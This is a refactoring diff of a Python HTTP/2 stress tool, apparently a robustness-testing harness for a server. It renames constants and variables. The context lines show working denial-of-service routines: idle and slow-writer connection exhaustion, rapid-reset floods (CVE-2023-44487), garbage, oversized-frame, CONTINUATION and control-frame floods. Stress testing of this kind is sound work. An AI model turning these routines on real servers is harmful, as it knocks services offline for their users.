@@ -45,13 +45,13 @@ DESCRIBE: Final = b"\x22" + bytes((len(SYMBOL),)) + SYMBOL
 PAGE: Final = b"\x08\xe8\x07"
 """A page of 1000 features."""
 CANCEL: Final = 8
-LARGEST: Final = (1 << 24) - 1
-IDLE: Final = 1_000
+MAX_FRAME_BYTES: Final = (1 << 24) - 1
+IDLE_CONNECTIONS: Final = 1_000
 LINE_BYTES: Final = 125_000_000
 """How much may be sent in a second."""
-PATIENCE_SECONDS: Final = 5.0
+MAX_WAIT_SECONDS: Final = 5.0
 PAUSE_SECONDS: Final = 0.05
-LARGEST_WRITE: Final = 1 << 18
+MAX_WRITE_BYTES: Final = 1 << 18
 _FRAME: Final = struct.Struct(">BHBBI")
 _SETTING: Final = struct.Struct(">HI")
 
@@ -86,7 +86,7 @@ class Connection:
         self.socket = socket.socket()
         if receive_bytes:
             self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
-        self.socket.settimeout(PATIENCE_SECONDS)
+        self.socket.settimeout(MAX_WAIT_SECONDS)
         self.socket.connect(attack.address)
         if attack.tls:
             self.socket = attack.tls.wrap_socket(self.socket)
@@ -100,7 +100,7 @@ class Connection:
         view = memoryview(data)
         while self.is_open and view and not self._attack.is_over:
             try:
-                sent = self.socket.send(view[:LARGEST_WRITE])
+                sent = self.socket.send(view[:MAX_WRITE_BYTES])
                 self._attack.pace(sent)
                 view = view[sent:]
             except TimeoutError:
@@ -109,7 +109,7 @@ class Connection:
                 self._ended()
         return self.is_open
 
-    def read(self, seconds: float = PATIENCE_SECONDS) -> bytes:
+    def read(self, seconds: float = MAX_WAIT_SECONDS) -> bytes:
         """Read what is there, waiting for it; nothing where the server has ended the connection or says nothing."""
         self.socket.settimeout(seconds)
         try:
@@ -130,11 +130,11 @@ class Connection:
                 if not self.socket.recv(1 << 16):
                     self._ended()
         except (BlockingIOError, ssl.SSLWantReadError):
-            self.socket.settimeout(PATIENCE_SECONDS)
+            self.socket.settimeout(MAX_WAIT_SECONDS)
         except OSError:
             self._ended()
 
-    def is_ended(self, seconds: float = PATIENCE_SECONDS) -> bool:
+    def is_ended(self, seconds: float = MAX_WAIT_SECONDS) -> bool:
         """Wait for the server to end the connection; return whether it has."""
         until = time.monotonic() + seconds
         while self.is_open and (left := until - time.monotonic()) > 0 and not self._attack.is_over:
@@ -155,11 +155,11 @@ class Connection:
 class Attack:
     """One attack: where to, until when, by what chance, and what came of it."""
 
-    def __init__(self, address: str, how: str, seed: str, seconds: float) -> None:
+    def __init__(self, address: str, security: str, seed: str, seconds: float) -> None:
         host, _, port = address.rpartition(":")
         self.address = (host, int(port))
-        self.tls = _tls() if how == "tls" else None
-        self.chance = random.Random(seed)
+        self.tls = _tls() if security == "tls" else None
+        self.rng = random.Random(seed)
         self.counts: dict[str, int] = {"connections": 0, "ended": 0}
         self._start = time.monotonic()
         self._until = self._start + seconds
@@ -215,7 +215,7 @@ def _tls() -> ssl.SSLContext:
 
 def idle(attack: Attack) -> None:
     """1,000 connections that say nothing, or only who they are."""
-    opened = [Connection(attack, greet=bool(number % 2)) for number in range(IDLE)]
+    opened = [Connection(attack, greet=bool(number % 2)) for number in range(IDLE_CONNECTIONS)]
     attack.wait()
     for connection in opened:
         connection.drain()
@@ -250,7 +250,7 @@ def slow_writers(attack: Attack) -> None:
     """200 connections on which calls come a byte a second: in the preface, in the headers, in the message."""
     whole = PREFACE + frame(SETTINGS, 0, 0) + call(1, CAN_USE, REQUEST)
     opened = [Connection(attack, greet=False) for _ in range(200)]
-    sent = [attack.chance.randrange(len(whole)) for _ in opened]
+    sent = [attack.rng.randrange(len(whole)) for _ in opened]
     for connection, at in zip(opened, sent, strict=True):
         connection.send(whole[:at])
     while not attack.is_over:
@@ -269,7 +269,7 @@ def resets(attack: Attack) -> None:
     """Calls that are taken back as soon as they are made (rapid reset, CVE-2023-44487)."""
 
     def work() -> None:
-        connection, stream, path = Connection(attack), 1, attack.chance.choice((CAN_USE, LIST_FEATURES))
+        connection, stream, path = Connection(attack), 1, attack.rng.choice((CAN_USE, LIST_FEATURES))
         while connection.is_open and not attack.is_over and stream < 1 << 30:
             out = []
             for number in range(stream, stream + 200, 2):
@@ -287,13 +287,13 @@ def garbage(attack: Attack) -> None:
     """Random bytes: at once, after the preface, and as the payload of frames of all kinds."""
 
     def work() -> None:
-        chance = attack.chance
-        kind = chance.randrange(3)
+        rng = attack.rng
+        kind = rng.randrange(3)
         connection = Connection(attack, greet=kind > 0)
         for _ in range(8):
-            data = chance.randbytes(chance.randrange(1, 4000))
+            data = rng.randbytes(rng.randrange(1, 4000))
             if kind == 2:
-                data = frame(chance.randrange(12), chance.randrange(256), chance.randrange(4), data)
+                data = frame(rng.randrange(12), rng.randrange(256), rng.randrange(4), data)
             connection.send(data)
             attack.add("pieces")
         connection.drain()
@@ -313,7 +313,7 @@ def http_1(attack: Attack) -> None:
 
     def work() -> None:
         connection = Connection(attack, greet=False)
-        connection.send(attack.chance.choice(requests))
+        connection.send(attack.rng.choice(requests))
         connection.is_ended(1)
         connection.close()
         attack.add("requests")
@@ -326,9 +326,9 @@ def large_frames(attack: Attack) -> None:
 
     def too_long() -> None:
         connection = Connection(attack)
-        kind = attack.chance.choice((DATA, HEADERS, SETTINGS, PING, CONTINUATION, 99))
+        kind = attack.rng.choice((DATA, HEADERS, SETTINGS, PING, CONTINUATION, 99))
         connection.send(frame(HEADERS, END_HEADERS, 1, block(CAN_USE)))
-        connection.send(frame(kind, 0, 1, b"x" * 16_384, length=LARGEST))
+        connection.send(frame(kind, 0, 1, b"x" * 16_384, length=MAX_FRAME_BYTES))
         for _ in range(64):
             if not connection.send(b"x" * (1 << 18)):
                 break
@@ -338,7 +338,7 @@ def large_frames(attack: Attack) -> None:
 
     def too_large() -> None:
         connection = Connection(attack)
-        path = attack.chance.choice((CAN_USE, LIST_FEATURES))
+        path = attack.rng.choice((CAN_USE, LIST_FEATURES))
         connection.send(frame(HEADERS, END_HEADERS, 1, block(path)) + frame(DATA, 0, 1, b"\0\xff\xff\xff\xff"))
         piece = frame(DATA, 0, 1, b"x" * 16_384) * 16
         for _ in range(256):
@@ -349,7 +349,7 @@ def large_frames(attack: Attack) -> None:
         connection.close()
 
     def work() -> None:
-        attack.chance.choice((too_long, too_large))()
+        attack.rng.choice((too_long, too_large))()
 
     attack.at_once(2, work)
 
@@ -362,7 +362,7 @@ def large_metadata(attack: Attack) -> None:
         stream = 1
         while connection.is_open and not attack.is_over and stream < 100:
             start = block(CAN_USE, (b"x-large", b"y" * 3_900))
-            rest = b"\xbe" * 16_000 if attack.chance.random() < 0.5 else b"\x00\x03x-y\x7f\x81\x78" + b"z" * 15_488
+            rest = b"\xbe" * 16_000 if attack.rng.random() < 0.5 else b"\x00\x03x-y\x7f\x81\x78" + b"z" * 15_488
             connection.send(frame(HEADERS, 0, stream, start))
             for _ in range(64 if rest[0] == 0 else 1):
                 connection.send(frame(CONTINUATION, 0, stream, rest))
@@ -407,7 +407,7 @@ def control_floods(attack: Attack) -> None:
     def work() -> None:
         connection = Connection(attack, receive_bytes=4096)
         connection.send(frame(HEADERS, END_HEADERS, 1, block(CAN_USE)))
-        flood = attack.chance.choice(floods)
+        flood = attack.rng.choice(floods)
         for _ in range(2_000):
             if not connection.send(flood) or attack.is_over:
                 break
@@ -437,10 +437,10 @@ ATTACKS: Final[dict[str, Callable[[Attack], None]]] = {
 
 def main() -> None:
     """Do what the command line says."""
-    name, address, how, seed, seconds = sys.argv[1:]
-    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
-    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
-    attack = Attack(address, how, seed, float(seconds))
+    name, address, security, seed, seconds = sys.argv[1:]
+    _, hard_limit = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard_limit, hard_limit))
+    attack = Attack(address, security, seed, float(seconds))
     ATTACKS[name](attack)
     print(json.dumps(attack.counts))
 
